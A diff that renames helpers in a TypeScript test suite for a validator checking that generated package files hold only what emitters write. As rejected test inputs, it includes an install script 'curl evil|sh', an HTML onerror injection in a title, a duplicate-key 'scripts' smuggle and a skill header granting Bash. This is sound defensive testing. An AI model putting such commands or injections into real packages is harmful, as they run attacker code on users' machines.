@@ -6,15 +6,15 @@ import { provePlain } from '../../../generator/output/prove/prove-plain.js';
 import { printProven } from './print-proven.js';
 import { readRows } from '../../rows.js';
 
-function plain(path: string, text: string): PlainFile {
+function toFile(path: string, text: string): PlainFile {
   return { kind: 'plain', path, text };
 }
 
-function findingsIn(path: string, text: string): readonly string[] {
-  return provePlain(plain(path, text)).map((one) => `${one.path}:${one.line} ${one.reason}`);
+function listFindings(path: string, text: string): readonly string[] {
+  return provePlain(toFile(path, text)).map((one) => `${one.path}:${one.line} ${one.reason}`);
 }
 
-/** What a build says of a file that holds the title of its spec, which stands at 3:10. */
+/** Builds a file that contains the title of the spec, at 3:10, and returns the diagnostics. */
 async function buildWith(file: PlainFile, title: string): Promise<readonly string[]> {
   const { files, diagnostics } = await printProven([file], { title });
   expect(files).toEqual([]);
@@ -32,29 +32,30 @@ const manifest = {
   devDependencies: { typescript: '>=5.8' },
 };
 
-function json(value: unknown): string {
+function printJson(value: unknown): string {
   return `${JSON.stringify(value, null, 2)}\n`;
 }
 
 describe('package.json', () => {
-  test('may say what emitters say', () => expect(findingsIn('package.json', json(manifest))).toEqual([]));
+  test('may have the members that emitters write', () =>
+    expect(listFindings('package.json', printJson(manifest))).toEqual([]));
 
   test.each(readRows(import.meta.url).rows<readonly [string, object, string]>('may not have'))(
     'may not have %s',
     (_, change, member) => {
-      const text = json({ ...manifest, ...change });
+      const text = printJson({ ...manifest, ...change });
       const line = text.split('\n').findIndex((one) => one.startsWith(`  "${member}":`)) + 1;
-      expect(findingsIn('package.json', text)).toEqual([
+      expect(listFindings('package.json', text)).toEqual([
         `package.json:${line} has a member "${member}" that no emitter writes`,
       ]);
     },
   );
 
-  test('may not be anything but JSON', () => {
+  test('has to be JSON in the form that emitters write', () => {
     const want = ['package.json:1 is no JSON as it is written here'];
-    expect(findingsIn('package.json', '{"a":1,}')).toEqual(want);
-    expect(findingsIn('package.json', '{"scripts":{"build":"evil"},"scripts":{}}')).toEqual(want);
-    expect(findingsIn('package.json', '[]\n')).toEqual(want);
+    expect(listFindings('package.json', '{"a":1,}')).toEqual(want);
+    expect(listFindings('package.json', '{"scripts":{"build":"evil"},"scripts":{}}')).toEqual(want);
+    expect(listFindings('package.json', '[]\n')).toEqual(want);
   });
 });
 
@@ -66,75 +67,78 @@ describe('other files', () => {
     ['openapi.json', '{"\\u0061": 1}'],
     ['openapi.json', '{\n  "a": 1,\n  "a": 2\n}\n'],
   ])('%s may not be %j', (path, text) =>
-    expect(findingsIn(path, text)).toEqual([`${path}:1 is no JSON as it is written here`]),
+    expect(listFindings(path, text)).toEqual([`${path}:1 is no JSON as it is written here`]),
   );
 
   test('no emitter writes a file of another kind', () =>
-    expect(findingsIn('index.html', '<p>')).toEqual(['index.html:1 is a file that no emitter writes']));
+    expect(listFindings('index.html', '<p>')).toEqual(['index.html:1 is a file that no emitter writes']));
 });
 
 describe('badges', () => {
   const badge = '[![npm](https://img.shields.io/npm/v/@pets/pets)](https://www.npmjs.com/package/@pets/pets)';
 
   test('may stand in lines of their own', () =>
-    expect(findingsIn('README.md', `# Pets\n\n${badge}\n${badge}\n\nText.\n`)).toEqual([]));
+    expect(listFindings('README.md', `# Pets\n\n${badge}\n${badge}\n\nText.\n`)).toEqual([]));
 
-  test.each(readRows(import.meta.url).rows<readonly [string, string]>('is none of them'))(
-    '%s is none of them',
-    (_, line) => expect(findingsIn('README.md', `# Pets\n\n${line}\n`)[0]).toBe('README.md:3 has a picture'),
+  test.each(readRows(import.meta.url).rows<readonly [string, string]>('is not a badge'))(
+    '%s is not a badge',
+    (_, line) => expect(listFindings('README.md', `# Pets\n\n${line}\n`)[0]).toBe('README.md:3 has a picture'),
   );
 });
 
 describe('a build with such a file fails', () => {
-  test('at the place of the text in the spec', async () => {
+  test('at the position of the text in the spec', async () => {
     const title = 'Pets <img src=x onerror=evil()>';
-    expect(await buildWith(plain('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
+    expect(await buildWith(toFile('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
       'spec.yaml:3:10 error text-became-code: This text would run as code in README.md:3 (has HTML); please report it',
     ]);
     expect(
-      await buildWith(plain('package.json', json({ ...manifest, scripts: { x: 'curl evil|sh' } })), 'curl evil|sh'),
+      await buildWith(
+        toFile('package.json', printJson({ ...manifest, scripts: { x: 'curl evil|sh' } })),
+        'curl evil|sh',
+      ),
     ).toEqual([
       'spec.yaml:3:10 error text-became-code: This text would run as code in package.json:16 ' +
         '(has a member "scripts" that no emitter writes); please report it',
     ]);
   });
 
-  test('with its line where the text is none of the spec', async () => {
-    await expect(buildWith(plain('README.md', '\n<b>\n'), 'Pets')).rejects.toThrow('README.md:2 has HTML: <b>');
+  test('with the line of the file if the text is not in the spec', async () => {
+    await expect(buildWith(toFile('README.md', '\n<b>\n'), 'Pets')).rejects.toThrow('README.md:2 has HTML: <b>');
   });
 });
 
-test('every file of the published packages is proven', () => {
+test('every file of the published packages passes the proof', () => {
   for (const service of ['video-platform', 'ad-reporting']) {
     const folder = new URL(`../../../generated/${service}/`, import.meta.url);
     const names = readdirSync(folder, { withFileTypes: true }).filter((one) => one.isFile());
     const paths = names.map(({ name }) => name).filter((name) => !name.startsWith('.'));
     expect(paths).toContain('package.json');
-    for (const path of paths) expect(findingsIn(path, readFileSync(new URL(path, folder), 'utf8'))).toEqual([]);
+    for (const path of paths) expect(listFindings(path, readFileSync(new URL(path, folder), 'utf8'))).toEqual([]);
   }
 });
 
 describe('a skill', () => {
-  const page = (head: string, rest = '# a\n'): string => `---\n${head}\n---\n\n${rest}`;
+  const buildSkill = (head: string, rest = '# a\n'): string => `---\n${head}\n---\n\n${rest}`;
 
   test('has a name, and a description as a string, and a page', () => {
-    expect(findingsIn('SKILL.md', page('name: a-1\ndescription: "a \\"b\\" \\\\ c"'))).toEqual([]);
+    expect(listFindings('SKILL.md', buildSkill('name: a-1\ndescription: "a \\"b\\" \\\\ c"'))).toEqual([]);
   });
 
   test.each([
     ['no head', '# a\n'],
-    ['another member', page('name: a\ndescription: "a"\nallowed-tools: Bash')],
-    ['a description that is no string', page('name: a\ndescription: [a]')],
-    ['a description that ends early', page('name: a\ndescription: "a" # "b"')],
-    ['a name in capitals', page('name: A\ndescription: "a"')],
+    ['another member', buildSkill('name: a\ndescription: "a"\nallowed-tools: Bash')],
+    ['a description that is no string', buildSkill('name: a\ndescription: [a]')],
+    ['a description that ends early', buildSkill('name: a\ndescription: "a" # "b"')],
+    ['a name in capitals', buildSkill('name: A\ndescription: "a"')],
   ])('has nothing else: %s', (_, text) => {
-    expect(findingsIn('SKILL.md', text)).toEqual(['SKILL.md:1 has another head than a skill']);
+    expect(listFindings('SKILL.md', text)).toEqual(['SKILL.md:1 has another head than a skill']);
   });
 
   test('has a page that is proven like any other', () => {
-    expect(findingsIn('SKILL.md', page('name: a\ndescription: "a"', '![a](b)\n'))).toEqual([
+    expect(listFindings('SKILL.md', buildSkill('name: a\ndescription: "a"', '![a](b)\n'))).toEqual([
       'SKILL.md:6 has a picture',
     ]);
-    expect(findingsIn('llms.txt', '# a\n\n![a](b)\n')).toEqual(['llms.txt:3 has a picture']);
+    expect(listFindings('llms.txt', '# a\n\n![a](b)\n')).toEqual(['llms.txt:3 has a picture']);
   });
 });
